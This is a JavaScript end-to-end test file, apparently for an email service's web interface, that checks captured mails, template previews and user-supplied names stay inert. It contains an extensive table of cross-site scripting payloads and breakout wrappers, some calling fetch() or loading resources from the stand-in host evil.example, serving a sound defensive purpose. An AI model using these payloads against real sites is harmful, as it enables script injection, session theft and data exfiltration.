// Text of strangers (threat T42): a table of payloads through every place that shows what others wrote. None runs, none is fetched, none
// opens anything, whether it stands in a captured mail, in a preview, or in a name, a subject or a file name on a page.
import assert from 'node:assert/strict';
import { eventually, openBrowser } from './browser.mjs';
import { startDaemon } from './daemon.mjs';
import { callApi, openAnew, post, setSending, setUpSandbox, untilState } from './steps.mjs';
import { test } from './tap.mjs';

const EVIL = 'https://evil.example';
const CODE = `top.ran=1;window.ran=1;document.title='ran';alert(1);fetch('${EVIL}/f')`;

// What is known to have run somewhere, one of a kind; CODE is put in the place of %.
const KINDS = [
  '<script>%</script>', '<script src="https://evil.example/x.js"></script>', '<ScRiPt>%</sCrIpT>', '<script\n>%</script\n>', '<scr<script>ipt>%</scr</script>ipt>', '<script x>%</script y>',
  '<img src=x onerror="%">', '<img src=x onerror=%>', '<img/src=x/onerror="%">', '<img src="x"onerror="%">', '<IMG SRC=x OnErRoR="%">', '<img src=x\nonerror\n=\n"%">', '<img srcset="https://evil.example/s 1x" onload="%">',
  '<svg onload="%">', '<svg><script>%</script></svg>', '<svg><animate onbegin="%" attributeName=x dur=1s>', '<svg><a xlink:href="javascript:%"><text>x</text></a></svg>', '<svg><foreignObject><img src=x onerror="%"></foreignObject></svg>',
  '<svg><use href="https://evil.example/u.svg#x"></use></svg>', '<math><mtext><table><mglyph><style><img src=x onerror="%"></style>', '<math href="javascript:%">x</math>', '<body onload="%">', '<body background="https://evil.example/b">',
  '<iframe src="javascript:%"></iframe>', '<iframe srcdoc="<script>%</script>"></iframe>', '<iframe src="https://evil.example/"></iframe>', '<frameset onload="%"><frame src="https://evil.example/"></frameset>',
  '<object data="javascript:%"></object>', '<object data="https://evil.example/o"></object>', '<embed src="javascript:%">', '<embed src="https://evil.example/e">', '<applet code="x" codebase="https://evil.example/">',
  '<a href="javascript:%" id=a>x</a><script>a.click()</script>', '<a href="java\tscript:%">x</a>', '<a href=" javascript:%">x</a>', '<a href="&#106;avascript:%">x</a>', '<a href="data:text/html,<script>%</script>">x</a>', '<a href="vbscript:%">x</a>',
  '<a href="https://evil.example/" ping="https://evil.example/p" autofocus onfocus="%">x</a>', '<form action="javascript:%"><button autofocus onfocus="%">x</button></form>', '<form action="https://evil.example/"><input name=p></form>',
  '<input autofocus onfocus="%">', '<input type=image src="https://evil.example/i" formaction="javascript:%">', '<select autofocus onfocus="%"></select>', '<textarea autofocus onfocus="%"></textarea>', '<keygen autofocus onfocus="%">',
  '<video src=x onerror="%"></video>', '<video poster="https://evil.example/v"><source onerror="%"></video>', '<audio src="https://evil.example/a" autoplay onloadstart="%"></audio>', '<track src="https://evil.example/t" default>',
  '<details open ontoggle="%">x</details>', '<marquee onstart="%">x</marquee>', '<dialog open onclose="%">x</dialog>', '<div popover id=p onbeforetoggle="%">x</div><button popovertarget=p>x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:%">', '<meta http-equiv="refresh" content="0;url=https://evil.example/m">', '<base href="https://evil.example/"><img src="rel.png">', '<link rel=stylesheet href="https://evil.example/l.css">', '<link rel=prefetch href="https://evil.example/pre">',
  '<style>@import "https://evil.example/i.css";</style>', '<style>body{background:url(https://evil.example/bg)}</style>', '<style>*{animation:x 1s}@keyframes x{from{color:red}}</style><p onanimationstart="%">x</p>', '<p style="background:url(https://evil.example/st)">x</p>', '<p style="background:url(/v1/asked)">x</p>', '<style>p{background:u\\72l(/v1/asked)}</style><p>x</p>',
  '<p style="animation:x 1ms" onanimationend="%">x</p>', '<p style="width:expression(%)">x</p>', '<table background="https://evil.example/tb"><td background="javascript:%">x</table>', '<template><script>%</script></template>', '<template shadowrootmode=open><img src=x onerror="%"></template>',
  '<noscript><p title="</noscript><img src=x onerror=%>"></noscript>', '<textarea><img src=x onerror="%"></textarea>', '<title><img src=x onerror="%"></title>', '<xmp><img src=x onerror="%"></xmp>', '<plaintext><img src=x onerror="%">',
  '<!--><img src=x onerror="%">-->', '<!-- --!><img src=x onerror="%">', '<![CDATA[<img src=x onerror="%">]]>', '<?xml version="1.0"?><img src=x onerror="%">', '</p><img src=x onerror="%">', '\u0000<img src=x onerror="%">', '<p title="`%`" onclick=`%`>x',
];

// Around each: as it is, out of what it may stand in, and behind what confuses a reader.
const AROUND = [(x) => x, (x) => `"'>${x}`, (x) => `</style></title></textarea></script>${x}`, (x) => `<b title="${x}">x</b>`, (x) => `<p>{{${x}}}</p>`, (x) => `<table><tr>${x}<td>x</table>`, (x) => `<svg><desc>${x}</desc></svg>`];
const PAYLOADS = KINDS.flatMap((kind) => AROUND.map((around) => around(kind.replaceAll('%', CODE))));
const NAMES = ['<script>%</script>', "'-%-'", '{{constructor.constructor("%")()}}', '<svg onload="%">', 'javascript:%', '"><img src=x onerror="%">'].map((name) => name.replaceAll('%', 'top.ran=1'));
const BATCH = 190; // in one mail; the plain ones before those that swallow what follows

/** What a page must never show a sign of; requests that the policy kept in are none. */
function watch(page) {
  const signs = [];
  page.on('dialog', async (dialog) => { signs.push(`dialog: ${dialog.message()}`); await dialog.dismiss(); });
  page.on('popup', () => signs.push('a window was opened'));
  page.on('requestfinished', (request) => { if (request.url().startsWith(EVIL) || request.url().endsWith('/v1/asked')) signs.push(`fetched: ${request.url()}`); });
  page.on('requestfailed', (request) => { if (request.url().startsWith(EVIL) && request.failure()?.errorText !== 'csp') signs.push(`asked for: ${request.url()} (${request.failure()?.errorText})`); });
  return async () => {
    for (const frame of page.frames()) if (await frame.evaluate('Boolean(window.ran)').catch(() => false)) signs.push(`ran in ${frame.url()}`);
    if (await page.evaluate('document.title === "ran"')) signs.push('the title was changed');
    return signs;
  };
}

/** What a mail leaves in a frame once it was made harmless. */
const DANGEROUS = 'script, style, link, meta:not([charset]):not([http-equiv="Content-Security-Policy"]), base, iframe, object, embed, form, input, button, textarea, select, svg, math, template, [href], [srcset], [background], [action], [formaction]';
const leftIn = (frame) => frame.evaluate((dangerous) => [...document.querySelectorAll('*')]
  .filter((node) => node.matches(dangerous) || [...node.attributes].some(({ name, value }) => name.startsWith('on') || (name === 'src' && !value.startsWith('data:image/'))))
  .map((node) => node.outerHTML.slice(0, 200)), DANGEROUS);

async function captures(page, url) {
  await test(`foreign: ${PAYLOADS.length} payloads, each as a mail of its own: nothing dangerous is left of any`, async () => {
    const left = await page.evaluate(async ([payloads, dangerous]) => {
      const script = (end) => performance.getEntriesByType('resource').map(({ name }) => name).find((name) => name.endsWith(end));
      const { displayable, parseMessage } = await import(script('/mime.js'));
      const { harmless } = await import(script('/mail-frame.js'));
      const faults = [];
      for (const payload of payloads) {
        const mail = parseMessage(new TextEncoder().encode(`Content-Type: text/html; charset=utf-8\r\n\r\n${payload}`));
        const shown = harmless(document.implementation.createHTMLDocument(''), displayable(mail).source);
        for (const node of [shown, ...shown.querySelectorAll('*')]) {
          const bad = [...node.attributes].filter(({ name, value }) => name.startsWith('on') || (name === 'src' && !value.startsWith('data:image/')));
          if (node.matches(dangerous) || bad.length) faults.push(`${payload} → ${node.outerHTML}`.slice(0, 300));
        }
      }
      return { faults, count: payloads.length };
    }, [PAYLOADS, DANGEROUS]);
    assert.deepEqual(left.faults, []);
    assert.ok(left.count >= 500);
  });

  await test('foreign: captured mails full of them, with such subjects, senders and attachments, run nothing in any view', async () => {
    const signs = watch(page);
    for (let at = 0, n = 0; at < PAYLOADS.length; at += BATCH, n += 1) {
      const name = NAMES[n % NAMES.length];
      const id = await post(page, {
        from: `${JSON.stringify(name)} <sandbox@localhost.test>`, to: 'eve@example.net', subject: `${n} ${name}`, text: PAYLOADS.slice(at, at + BATCH).join('\n').replaceAll('\u0000', ''),
        html: PAYLOADS.slice(at, at + BATCH).join('\n').replaceAll('\u0000', ''), attachments: [{ filename: `${name.replaceAll('/', '')}.html`, content: btoa(KINDS[n].replaceAll('%', CODE)) }],
      });
      await untilState(page, id, 'accepted');
      await openAnew(page, `${url}/#/outbox/${id}`, 'h1');
    }
    const { data } = (await callApi(page, 'GET', '/v1/sandbox/messages')).body;
    for (const { id } of data.filter((one) => one.to.includes('eve@example.net'))) {
      await openAnew(page, `${url}/#/sandbox/${id}`, 'iframe.mail');
      const frame = await (await page.waitForSelector('iframe.mail')).contentFrame();
      await frame.waitForFunction("document.URL === 'about:srcdoc' && document.adoptedStyleSheets.length > 0"); // it is drawn
      assert.deepEqual(await leftIn(frame), []);
      for (const tab of await page.$$('[role=tab]')) await tab.click();
      assert.deepEqual(await signs(), []);
    }
  });
}

async function previews(page, url) {
  await test('foreign: the preview of a mail text runs nothing, whatever the text holds', async () => {
    const signs = watch(page);
    let sent = '';
    await page.route('**/v1/templates/preview', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, json: { ...await response.json(), html: sent } });
    });
    for (let at = 0; at < PAYLOADS.length; at += BATCH) {
      sent = `<p id="kept">${at}</p>${PAYLOADS.slice(at, at + BATCH).join('\n')}`;
      await openAnew(page, `${url}/#/mail-texts/invitation/de`, 'iframe.mail');
      await eventually(async () => {
        const frame = await (await page.waitForSelector('iframe.mail')).contentFrame();
        assert.match(await frame.evaluate('document.body.textContent'), new RegExp(`^${at}`));
        assert.deepEqual(await leftIn(frame), []);
      });
      assert.deepEqual(await signs(), []);
    }
    await page.unroute('**/v1/templates/preview');
  });
}

async function names(page, url) {
  await test('foreign: names of people, applications, webhooks, the organisation and its texts stay text on every page', async () => {
    const signs = watch(page);
    for (const [n, name] of NAMES.entries()) {
      for (const [method, path, body] of [['POST', '/v1/tokens', { name, scopes: ['emails:send'] }], ['POST', '/v1/webhooks', { name, url: `https://localhost:${40000 + n}/${encodeURIComponent(name)}`, events: ['date.near'] }],
        ['PATCH', '/v1/account', { name }], ['PATCH', '/v1/organisation', { name }], ['PUT', '/v1/smtp/sending', { enabled: false, reason: name }],
        ['POST', '/v1/templates', { name: `own_${n}`, locale: 'de', subject: name.replace('{{', ''), text: name.replace('{{', '') }]]) {
        const { status, body: said } = await callApi(page, method, path, body);
        assert.ok(status < 300, `${method} ${path}: ${JSON.stringify(said)}`);
      }
    }
    for (const hash of ['settings/email', 'applications', 'webhooks', 'people', 'account', 'organisation', 'mail-texts', 'mail-texts/own_1/de', 'audit', 'outbox', 'sandbox']) {
      await openAnew(page, `${url}/#/${hash}`, 'h1');
      await eventually(async () => assert.ok((await page.content()).includes('top.ran'), `${hash} shows a name`));
      assert.deepEqual(await signs(), [], hash);
    }
  });
}

export async function foreign() {
  const daemon = await startDaemon();
  const browser = await openBrowser(daemon.url, { others: [EVIL] });
  const { page } = browser;
  try {
    await setUpSandbox(page, daemon.setupLink);
    await setSending(page, { enabled: true });
    await openAnew(page, `${daemon.url}/#/sandbox`, 'h1');
    await post(page, { to: 'anna@example.net', html: '<p>Hallo</p>' }).then((id) => untilState(page, id, 'accepted'));
    const { data: [{ id }] } = (await callApi(page, 'GET', '/v1/sandbox/messages')).body;
    await openAnew(page, `${daemon.url}/#/sandbox/${id}`, 'iframe.mail');
    for (const part of [captures, previews, names]) await part(page, daemon.url);
  } finally {
    await browser.close();
    await daemon.stop();
  }
}
